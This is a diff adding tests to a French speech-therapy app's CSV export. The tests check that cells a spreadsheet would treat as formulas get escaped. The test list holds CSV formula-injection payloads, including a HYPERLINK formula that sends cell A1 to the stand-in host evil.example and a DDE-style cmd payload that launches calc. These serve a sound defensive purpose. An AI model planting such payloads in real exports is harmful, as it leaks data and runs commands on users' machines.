@@ -6,9 +6,10 @@ import csv
 from pathlib import Path
 from typing import TYPE_CHECKING
 
+from therapy_app.audio.wavio import read_wav
 from therapy_app.exports import CSV_HEADERS, export_attempts_csv
-from therapy_app.exports.csv_export import format_cell
-from therapy_app.storage import EXPORT_COLUMNS, SessionRepository
+from therapy_app.exports.csv_export import escape_formula, format_cell
+from therapy_app.storage import EXPORT_COLUMNS, AttemptRecord, SessionRepository
 
 if TYPE_CHECKING:
     from therapist_fixtures import SeededHistory
@@ -74,3 +75,71 @@ def test_cell_formats() -> None:
     assert format_cell("kind", "completion") == "Complétion de phrases"
     assert len(format_cell("created_at", "2025-03-14T09:30:00.000000+00:00")) == 19
     assert len(CSV_HEADERS) == len(EXPORT_COLUMNS)
+
+
+# ----- formula injection (issue 11, item 5) ---------------------------------------------
+
+_HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&A1;"clic")',
+    "+33 6 12 34 56 78",
+    "-moi pas content",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",
+    "＝1+1",
+]
+
+
+def test_cells_a_spreadsheet_would_evaluate_are_escaped(
+    therapist_repo: SessionRepository, speech_dir: Path, tmp_path: Path
+) -> None:
+    # Real rows through the repository: the name is typed on the profile
+    # screen, transcripts come from speech recognition or the therapist.
+    clip = read_wav(speech_dir / "word_01.wav")
+    expected: dict[int, str] = {}
+    for text in _HOSTILE:
+        patient = therapist_repo.create_patient(f"{text}x")
+        session = therapist_repo.start_session(patient.id, "repetition")
+        attempt = therapist_repo.add_attempt(
+            AttemptRecord(
+                session_id=session.id,
+                kind="repetition",
+                raw_transcript=text,
+                target_text="pomme",
+                target_score=-0.5,
+            ),
+            clip,
+        )
+        expected[attempt] = text
+    path = tmp_path / "hostile.csv"
+    assert export_attempts_csv(therapist_repo, path) == len(_HOSTILE)
+    rows = _read(path)
+    for row in rows:
+        text = expected[int(row["N° essai"])]
+        assert row["Transcription"] == "'" + text
+        # The repository strips the name; whatever is left must not be a formula.
+        assert row["Patient"].startswith("'")
+        assert row["Patient"][1:] == f"{text}x".strip()
+        assert row["Cible"] == "pomme"
+        assert _number(row["Score de la cible"]) == -0.5  # numbers stay numbers
+    first_cells = [cell for row in rows for cell in row.values() if cell]
+    assert not [c for c in first_cells if c[0] in "=+@\t\r" or c[0] == "-" and not _is_number(c)]
+
+
+def _is_number(text: str) -> bool:
+    try:
+        _number(text)
+    except ValueError:
+        return False
+    return True
+
+
+def test_escape_formula_leaves_ordinary_text_alone() -> None:
+    assert escape_formula("le chat dort") == "le chat dort"
+    assert escape_formula("Jeanne-Marie") == "Jeanne-Marie"
+    assert escape_formula("") == ""
+    assert escape_formula("-") == "'-"
+    assert format_cell("transcript", "=1+1") == "'=1+1"
+    assert format_cell("word_count", -3) == "-3"
+    assert format_cell("wer", -0.25) == "-0,25"
